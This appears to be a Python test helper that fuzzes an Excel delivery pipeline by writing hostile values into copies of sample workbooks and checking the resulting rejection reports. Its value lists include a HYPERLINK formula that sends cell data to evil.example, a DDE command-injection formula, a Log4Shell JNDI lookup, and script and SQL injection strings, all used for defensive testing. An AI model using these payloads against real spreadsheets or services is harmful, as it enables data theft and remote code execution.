"""Mutating real sample workbooks with openpyxl, and the oracle every mutated file must meet.

A mutation rewrites one cell (or clears a row, or empties a sheet) of a copy of a real sample.
The base copy is the sample as openpyxl reads it with ``data_only=True`` (cached values of
formulas kept as constants), so the unmutated copy validates exactly like the sample.

The oracle (:func:`check_report`): the delivery is either refused as a whole (a reason of
``FILE_REASONS``, a French message), or every rejected row names its file, sheet, row, column
and reason, and every mutated cell that is *accepted* holds what the contract's parser makes of
the value written (a formula without a cached value reads as blank: never evaluated, never its
text), while every row not mutated keeps the value it has in the unmutated copy.
"""

from __future__ import annotations

import datetime as dt
import io
import math
from collections.abc import Iterable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from pipelines.errors import FILE_REASONS, REASONS
from pipelines.extract.extraction import RawDelivery
from pipelines.extract.values import PARSERS, BadValue, parse_date
from pipelines.transform.report import Report

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "data" / "samples"
EXTRACTION = SAMPLES / "prf_2025_20250115.xlsx"
ENTRY_WORKBOOKS = tuple(sorted((SAMPLES / "saisies").glob("saisie_*.xlsx")))
LHEO_ENTRY = SAMPLES / "saisies" / "lheo" / "saisie_80251693000137_20250301.xml"
MB = 2**20

#: The default run: a few dozen examples per test, no deadline (file I/O), no example database
#: written in the repository.
FAST = settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
#: The long profile (``-m slow``).
LONG = settings(FAST, max_examples=300)

# --------------------------------------------------------------------------- hostile values

FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=SUM(A1:A3)",
    "+33 2 40 00 00 00",
    "-2+3",
    "@SUM(A1)",
)
DATE_TEXTS = (
    "31/02/2025", "00/00/0000", "99999999", "29/02/2024", "01/13/2025", "2025-02-30",
    "1/1/1", "31/12/9999", "0", "2958466", "-1", "19000101", "21001232", "32/01/25",
)  # fmt: skip
ODD_TEXTS = (
    "", " ", "\u00a0", "\t", "\r\n", "-", "N/A", "#REF!", "#DIV/0!", "VRAI", "1.30005E+13",
    "123", "000000000000000", "12,5", "1 234,50 €", "1,2,3", "oui", "x", "_x0007_",
    "‮evil", "\ufeff", "A\u0301", "😀" * 3, "<script>alert(1)</script>", "'; DROP TABLE lots;--",
    "${jndi:ldap://evil.example/a}", "{0}{1}{column}", "%s%s%n",
)  # fmt: skip


def _printable(text: str) -> str:
    """Keep only what an .xlsx can hold (openpyxl refuses the C0 controls but tab, CR, LF)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def whole_minutes(value: dt.datetime) -> dt.datetime:
    return value.replace(second=0, microsecond=0)


@dataclass(frozen=True)
class Formula:
    """A formula written as a formula (no cached value): must read as a blank cell."""

    text: str


@dataclass(frozen=True)
class Text:
    """A text written as a string cell even when it starts with ``=``."""

    text: str


def hostile_values() -> st.SearchStrategy[Any]:
    """Values of every kind a cell can hold, biased towards the hostile ones.

    Numbers stay within ±1e7: beyond, a date-formatted cell panics calamine and an integer
    beyond 64 bits crashes the parser today (the xfail tests of ``test_hostile_values.py``).
    """
    return st.one_of(
        st.none(),
        st.integers(-(10**7), 10**7),
        st.floats(min_value=-1e7, max_value=1e7, allow_nan=False, allow_infinity=False),
        st.booleans(),
        st.datetimes(dt.datetime(1900, 3, 1), dt.datetime(9999, 12, 31)).map(whole_minutes),
        st.times().map(lambda t: t.replace(second=0, microsecond=0)),
        st.text(max_size=60).map(_printable),
        st.integers(256, 33_000).map(lambda n: "Ä" * n),  # beyond Excel's 32 767 too
        st.sampled_from([f for f in FORMULAS if f.startswith("=")]).map(Formula),
        st.sampled_from(FORMULAS).map(Text),
        st.sampled_from(DATE_TEXTS).map(Text),
        st.sampled_from(ODD_TEXTS).map(Text),
    )


# --------------------------------------------------------------------------- layout of a sample


@dataclass(frozen=True)
class SheetLayout:
    """Where a contract sheet sits in a sample workbook."""

    name: str  # canonical (``actions``)
    title: str  # the workbook's sheet name (``Actions PRF``)
    header_row: int
    columns: dict[str, int]  # canonical column -> 1-based column of the workbook
    kinds: dict[str, str]  # canonical column -> kind
    rows: tuple[int, ...]  # the data rows (Excel numbers)
    merged: frozenset[tuple[int, int]]  # (row, column) of merged cells but the top-left


def layout_of(raw: RawDelivery, base: bytes) -> dict[str, SheetLayout]:
    """The layout of each located sheet of a delivery read from ``base``."""
    book = openpyxl.load_workbook(io.BytesIO(base))
    layouts = {}
    for name, located in raw.sheets.items():
        sheet = book[located.name]
        header = [str(c.value).strip() if c.value is not None else "" for c in
                  sheet[located.header_row]]  # fmt: skip
        columns = {
            column: header.index(text) + 1
            for column, text in located.headers.items()
            if text in header
        }
        merged = frozenset(
            (r, c)
            for block in sheet.merged_cells.ranges
            for r in range(block.min_row, block.max_row + 1)
            for c in range(block.min_col, block.max_col + 1)
            if (r, c) != (block.min_row, block.min_col)
        )
        layouts[name] = SheetLayout(
            name, located.name, located.header_row, columns,
            {c.name: c.kind for c in located.spec.columns}, tuple(located.raw.index), merged,
        )  # fmt: skip
    return layouts


@lru_cache(maxsize=8)
def base_copy(path: Path) -> bytes:
    """The sample as openpyxl rewrites it with cached values instead of formulas."""
    book = openpyxl.load_workbook(path, data_only=True)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --------------------------------------------------------------------------- mutations


@dataclass(frozen=True)
class Mutation:
    """One change to a copy of a sample.

    Attributes:
        action: ``cell`` (write ``value``), ``clear-row`` (blank every cell of ``row``),
            ``empty-sheet`` (delete every row below the header), ``header`` (write ``value``
            in the header cell of ``column``).
        sheet: canonical sheet name.
        row: Excel row (``cell``, ``clear-row``).
        column: canonical column (``cell``, ``header``).
        value: what is written.
    """

    action: str
    sheet: str
    row: int = 0
    column: str = ""
    value: Any = None


def mutations(layouts: dict[str, SheetLayout]) -> st.SearchStrategy[list[Mutation]]:
    """One to three mutations of the sheets of ``layouts``, cells mostly.

    Every example draws the same choices whatever the layout (indices, then a value), and the
    layout resolves them: the data generation never depends on the file.
    """
    plan = st.tuples(
        st.integers(0, 10), st.integers(0, 2**16), st.integers(0, 2**20), st.integers(0, 2**16),
        hostile_values(),
    )  # fmt: skip
    return st.lists(plan, min_size=1, max_size=3).map(
        lambda plans: [resolve(p, layouts) for p in plans]
    )


def resolve(plan: tuple[int, int, int, int, Any], layouts: dict[str, SheetLayout]) -> Mutation:
    """Turn drawn indices into a mutation of ``layouts``."""
    action_index, sheet_index, row_index, column_index, value = plan
    names = sorted(layouts)
    layout = layouts[names[sheet_index % len(names)]]
    action = ("cell",) * 8 + ("clear-row", "empty-sheet", "header")
    chosen = action[action_index % len(action)]
    if chosen == "empty-sheet" or not layout.rows:
        return Mutation("empty-sheet", layout.name)
    row = layout.rows[row_index % len(layout.rows)]
    if chosen == "clear-row":
        return Mutation("clear-row", layout.name, row)
    columns = sorted(layout.columns)
    column = columns[column_index % len(columns)]
    if (row, layout.columns[column]) in layout.merged:
        return Mutation("clear-row", layout.name, row)
    return Mutation(chosen, layout.name, row, column, value)


def _write(cell: Any, value: Any) -> None:
    if isinstance(value, Formula):
        cell.value = value.text  # openpyxl stores it as a formula, without a cached value
    elif isinstance(value, Text):
        cell.value = _printable(value.text)
        cell.data_type = "s"
    else:
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"


def apply(
    base: bytes, layouts: dict[str, SheetLayout], changes: Iterable[Mutation], target: Path
) -> Path:
    """Write ``base`` with ``changes`` applied to ``target``."""
    book = openpyxl.load_workbook(io.BytesIO(base))
    for change in changes:
        layout = layouts[change.sheet]
        sheet = book[layout.title]
        if change.action == "empty-sheet":
            if sheet.max_row > layout.header_row:
                sheet.delete_rows(layout.header_row + 1, sheet.max_row - layout.header_row)
        elif change.action == "clear-row":
            for cell in sheet[change.row]:
                if (change.row, cell.column) not in layout.merged:
                    cell.value = None
        elif change.action == "header":
            _write(sheet.cell(layout.header_row, layout.columns[change.column]), change.value)
        else:
            _write(sheet.cell(change.row, layout.columns[change.column]), change.value)
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    return target


# --------------------------------------------------------------------------- the oracle


def as_read(value: Any) -> Any:
    """What a cell written with ``value`` gives when read back (calamine, cached values)."""
    if isinstance(value, Formula):
        return None
    if isinstance(value, Text):
        return _printable(value.text)
    if isinstance(value, float):
        return float(f"{value:.16g}")  # openpyxl, like Excel, writes 16 significant digits
    return value


def contract_value(kind: str, value: Any) -> Any:
    """What the contract makes of a cell (raises ``BadValue`` when it must be rejected)."""
    if kind == "date":
        return parse_date(value)
    return PARSERS[kind](value)


def plain(value: Any) -> Any:
    """A typed frame's cell as a plain Python value, for comparisons."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.date()
    if isinstance(value, dt.datetime):
        return value.date()
    if hasattr(value, "item"):
        return value.item()
    return value


def check_report(
    report: Report,
    file_name: str,
    columns_of: dict[str, set[str]],
    max_row: int,
) -> None:
    """Every rejected row names its file, sheet, row, column and reason, in French."""
    if report.refusal is not None:
        assert report.refusal.reason in FILE_REASONS, report.refusal
        assert report.refusal.message.strip()
        assert report.refusal.file == file_name
        return
    for error in report.errors:
        assert error.file == file_name, error
        assert error.sheet in columns_of, error
        assert isinstance(error.row, int) and 1 <= error.row <= max_row, error
        assert error.column is None or error.column in columns_of[error.sheet], error
        assert error.reason in REASONS and error.reason not in FILE_REASONS, error
        shown = error.message.replace(error.value or "", "")
        assert error.message.strip() and "{" not in shown, error  # every placeholder filled


def check_values(
    changes: list[Mutation],
    layouts: dict[str, SheetLayout],
    report: Report,
    accepted: dict[str, pd.DataFrame],
    base_accepted: dict[str, pd.DataFrame],
) -> None:
    """Accepted mutated cells hold the contract's value; unmutated rows keep theirs."""
    rejected = {(e.sheet, e.row, e.column, e.reason) for e in report.errors}
    headers_changed = {c.sheet for c in changes if c.action in ("header", "empty-sheet")}
    last: dict[tuple[str, int, str], Any] = {}
    touched: set[tuple[str, int]] = set()
    for change in changes:
        touched.add((change.sheet, change.row))
        if change.action == "cell":
            last[(change.sheet, change.row, change.column)] = change.value
        elif change.action == "clear-row":
            for column in layouts[change.sheet].columns:
                last[(change.sheet, change.row, column)] = None
    for (sheet, row, column), value in last.items():
        if sheet in headers_changed:
            continue
        frame = accepted[sheet]
        kind = layouts[sheet].kinds[column]
        try:
            expected = contract_value(kind, as_read(value))
        except BadValue as bad:
            assert (sheet, row, column, bad.reason) in rejected, (sheet, row, column, value)
            assert row not in frame.index
            continue
        if row in frame.index:
            got = plain(frame.at[row, column])
            assert got == plain(expected), (sheet, row, column, value, got)
            written = as_read(value)
            if kind == "text" and isinstance(written, str) and written == written.strip():
                if written and "\u00a0" not in written:
                    assert got == written  # texts are never cut nor altered
    for sheet, frame in accepted.items():
        if sheet in headers_changed:
            continue
        base = base_accepted[sheet]
        columns = [c for c in layouts[sheet].columns if c in frame.columns]
        for row in frame.index:
            if (sheet, row) in touched or row not in base.index:
                continue
            mine = [plain(frame.at[row, c]) for c in columns]
            theirs = [plain(base.at[row, c]) for c in columns]
            assert mine == theirs, (sheet, row)


def no_panic(call: Any, *args: Any) -> Any:
    """Call ``call``; a Rust panic (pyo3's PanicException, a BaseException) becomes an
    assertion failure, which hypothesis can shrink and report."""
    try:
        return call(*args)
    except Exception:
        raise
    except BaseException as error:
        if isinstance(error, (KeyboardInterrupt, SystemExit)):
            raise
        raise AssertionError(f"unhandled {type(error).__name__}: {error}") from None
